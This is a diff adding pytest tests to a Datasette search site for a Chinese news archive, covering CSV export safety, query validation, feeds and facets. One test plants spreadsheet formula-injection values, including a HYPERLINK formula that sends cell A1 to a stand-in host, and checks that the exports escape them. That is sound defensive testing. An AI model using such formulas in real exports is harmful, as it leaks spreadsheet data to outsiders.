@@ -4,19 +4,28 @@ import csv
 import re
 from collections import Counter
 from collections.abc import Iterator
+from contextlib import closing
+from dataclasses import replace
+from html import unescape
 from io import StringIO
+from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from datasette.app import Datasette
-from small_archive import HOSTILE, build
+from hypothesis import given
+from hypothesis import strategies as st
+from small_archive import HOSTILE, TALK, add_versions, build
 from small_site import get, served, text
-from test_phrases import Written, written  # noqa: F401 - the archive of that module
+from test_phrases import Written, _phrases, written  # noqa: F401 - the archive of that module
 
+from archive import read_archive
 from archive.home import Home
-from archive.publish.csv_cells import BYTE_ORDER_MARK, cell
-from archive.search.nearest import nearest
+from archive.publish import reading, search_page
+from archive.publish.csv_cells import BYTE_ORDER_MARK, cell, harmless
+from archive.search.facets import finds, found
+from archive.search.nearest import instead, nearest
 from archive.search.simplified import PAIRS, simplified
 from archive.search.text import fold
 
@@ -139,6 +148,34 @@ def test_no_cell_of_a_sheet_is_a_formula(value: object, written_as: str) -> None
     assert cell(value) == written_as
 
 
+@pytest.mark.parametrize(
+    "path",
+    ["/search.csv?q=公式", "/data/articles-2024-04.csv", "/archive/articles.csv?key=newsroom-6&_col=headline",
+     "/archive/articles.csv?key=newsroom-6&_header=off&_dl=1", "/archive/newest.csv", "/archive/latest_articles.csv",
+     "/archive.csv?sql=select+headline,speaker,-1,1.5e-7,body_text+from+articles"],
+)  # fmt: skip
+def test_no_sheet_of_the_site_holds_a_formula(tmp_path: Path, path: str) -> None:
+    home = build(tmp_path)
+    formula = '=HYPERLINK("http://news.example/?"&A1,"公式, 算式")'
+    add_versions(home, replace(TALK, identity="6", headline=formula, speaker="＝1+1", paragraphs=("\n@SUM(A1)",)))
+    with served(home) as there:
+        sheet = get(there, path).text
+    cells = [value for row in csv.reader(StringIO(sheet.removeprefix(BYTE_ORDER_MARK))) for value in row]
+    assert f"'{formula}" in cells
+    numbers = [value for value in cells if re.fullmatch(r"-?[\d.]+(e-\d+)?", value)]
+    assert [value for value in cells if value not in numbers and cell(value) != value] == []
+    assert ("-1" in cells) is ("sql" in path)  # numbers stay
+
+
+@given(st.lists(st.lists(st.text("=+-@\"',\r\n\t ＝甲a1", max_size=12), min_size=1, max_size=4), max_size=4))
+def test_rows_that_were_written_elsewhere_are_made_harmless_cell_by_cell(rows: list[list[str]]) -> None:
+    into = StringIO()
+    csv.writer(into).writerows(rows)
+    found = list(csv.reader(StringIO(harmless(into.getvalue()), newline="")))
+    number = re.compile(r"-?\d+")
+    assert found == [[value if number.fullmatch(value) else cell(value) for value in row] for row in rows]
+
+
 def test_a_chosen_value_is_shown_as_what_takes_it_away_again(small: Datasette) -> None:
     page = get(small, "/search?q=治理&column=思想者&ui=en").text
     chip = re.search(r'<a class="chip"[^>]*href="([^"]*)"', page)
@@ -183,6 +220,21 @@ def test_the_nearest_shorter_query(q: str, known: set[str], named: list[str]) ->
     assert nearest(q, known.__contains__) == named
 
 
+@pytest.mark.parametrize(
+    ("q", "known", "told"),
+    [
+        ("長三角", {"长三角"}, ([], "长三角")),
+        ("長三角火箭", {"三", "长三角"}, (["长三角"], None)),
+        ("臺灣問題研究", {"臺灣", "问题", "研究"}, (["臺灣", "研究", "问题"], None)),
+        ("长三角火箭", {"长三角"}, (["长三角"], None)),
+    ],
+)
+def test_what_is_asked_in_traditional_characters_is_found_in_part_too(
+    q: str, known: set[str], told: tuple[list[str], str | None]
+) -> None:
+    assert instead(q, lambda each: each in known) == told
+
+
 def test_the_table_of_simplified_characters() -> None:
     assert len(PAIRS) == 1886
     assert simplified("長三角經濟的發展，後面") == "长三角经济的发展，后面"
@@ -208,10 +260,91 @@ def test_the_sql_is_shown_where_it_may_not_be_run(tmp_path_factory: pytest.TempP
     assert "articles_fts match terms(:q)" in page
 
 
+@pytest.mark.parametrize("ending", ["", ".json", ".csv", ".atom", ".feed.json"])
 @pytest.mark.parametrize(
-    "query",
-    ["order=x", "before=x", "before=,", "before=nan,1&order=relevance", "before=1e999,1&order=relevance",
-     "since=2024-02-31", "until=%00", "limit=x", "year=%27", "ever=1&order=relevance", "column=" + "a" * 600],
+    ("query", "said"),
+    [("order=x", "order=x: not one of newest, oldest, relevance"), ("before=x", "before=x: no place"),
+     ("before=,", "before=,: no place"), ("since=2024-02-31", "since=2024-02-31: not a day like 2024-04-13"),
+     ("since=13.4.2024", "since=13.4.2024: not a day"), ("until=%00", "until=\x00: not a day"),
+     ("until=٢٠٢٤-٠٤-١٣", "not a day"), ("limit=x", "limit=x: not a number from 1 on"), ("limit=0", "limit=0"),
+     ("year=%27", "year=': not a year like 2024"), ("ever=true", "ever=true: 1 for yes"),
+     ("q=" + "治" * 501, "q: 501 characters; at most 500"), ("limit=" + "9" * 600, "…")],
+    ids=lambda value: value[:20],
 )  # fmt: skip
-def test_choices_that_make_no_sense_are_as_if_they_were_not_there(small: Datasette, query: str) -> None:
+def test_what_a_choice_cannot_be_is_told_in_one_line(small: Datasette, query: str, said: str, ending: str) -> None:
+    reply = get(small, f"/search{ending}?{'' if query.startswith('q=') else 'q=治理&'}{query}")
+    assert reply.status_code == 400
+    assert said in (reply.json()["error"] if ending.endswith("json") else unescape(text(reply)))
+    assert "\n" not in (reply.json()["error"] if ending.endswith("json") else "")
+
+
+@pytest.mark.parametrize("query", ["before=nan,1&order=relevance", "before=1e999,1&order=relevance"])
+def test_no_place_is_beyond_all_numbers(small: Datasette, query: str) -> None:
+    assert get(small, f"/search?q=治理&{query}").status_code == 400
+
+
+@pytest.mark.parametrize(
+    "query", ["order=", "before=", "since=&until=", "limit=&year=", "ever=0&gone=", "ever=1&order=relevance",
+              "column=" + "a" * 600, "limit=99999"],
+)  # fmt: skip
+def test_a_form_that_is_half_filled_in_asks_for_nothing_strange(small: Datasette, query: str) -> None:
     assert get(small, f"/search?q=治理&{query}").status_code == 200
+
+
+def test_a_month_that_was_not_asked_for_is_no_zero(many: Datasette) -> None:
+    whole = {each["month"] for each in told(many, q="人民")["months"]}
+    assert {"2024-01", "2024-03", "2023-12"} & whole
+    for asked, months in [
+        ({"year": "2024"}, {month for month in whole if month[:4] == "2024"}),
+        ({"since": "2024-02-10", "until": "2024-03-20"}, {"2024-02", "2024-03"} & whole),
+    ]:
+        assert {each["month"] for each in told(many, q="人民", **asked)["months"]} == months
+
+
+def test_hits_without_a_date_are_told_where_months_are_counted(small: Datasette) -> None:
+    data = told(small, q="改革")
+    assert (data["total"], data["undated"], sum(each["articles"] for each in data["months"])) == (2, 1, 1)
+    assert "没有日期、不在图中的：1 篇" in text(get(small, "/search?q=改革"))
+
+
+def test_a_search_that_took_too_long_is_no_answer_of_none(small: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(reading, "TIME_LIMIT", 0)
+    for ending in (".json", ".csv", ".atom", ".feed.json"):
+        assert get(small, f"/search{ending}?q=小事办好").status_code == 503
+
+
+def test_a_feed_of_a_search_has_the_newest_first_and_goes_on(many: Datasette) -> None:
+    newest = [f"http://localhost/a/{key}" for key in keys(told(many, q="人民", limit=1000))]
+    for order in ("", "&order=oldest", "&order=relevance"):
+        path, shown, names = f"/search.feed.json?q=人民&limit=7{order}", [], set()
+        while path:
+            feed = get(many, path).json()
+            shown += [item["url"] for item in feed["items"]]
+            path = feed.get("next_url", "").removeprefix("http://localhost")
+        assert shown == newest
+    names = {get(many, f"/search.atom?q=人民{more}").text.partition("<id>")[2][:45] for more in ("", "&limit=9")}
+    assert len(names) == 1
+
+
+def test_as_many_values_of_a_facet_are_told_as_there_are(many: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(search_page, "VALUES", 3)
+    monkeypatch.setattr(search_page, "SHOWN", 2)
+    data = told(many, q='"人民"')
+    counted = len({hit["speaker"] for hit in told(many, q='"人民"', limit=1000)["hits"] if hit["speaker"]})
+    assert (len(data["facets"]["speaker"]), data["facet_values"]["speaker"]) == (3, counted)
+    assert counted > 3
+    assert f"另有 {counted - 2} 项" in text(get(many, "/search", params={"q": '"人民"'}))
+
+
+def test_the_search_page_has_the_search_box_of_every_header(small: Datasette) -> None:
+    header = get(small, "/search?q=治理").text.partition("<header")[2].partition("</header>")[0]
+    assert '<input type="search" name="q"' in header
+
+
+@pytest.mark.parametrize("switches", [{}, {"ever": True}, {"gone": True}])
+def test_whether_anything_is_found_agrees_with_what_is_found(written: Written, switches: dict[str, bool]) -> None:  # noqa: F811
+    with closing(read_archive(written.home)) as archive:
+        asked = list(_phrases(written.versions))[:120]
+        told_of = {phrase: finds(archive.conn, phrase, **switches) for phrase in asked}
+        assert told_of == {phrase: bool(found(archive.conn, phrase, **switches)) for phrase in asked}
+    assert set(told_of.values()) == {True, False}
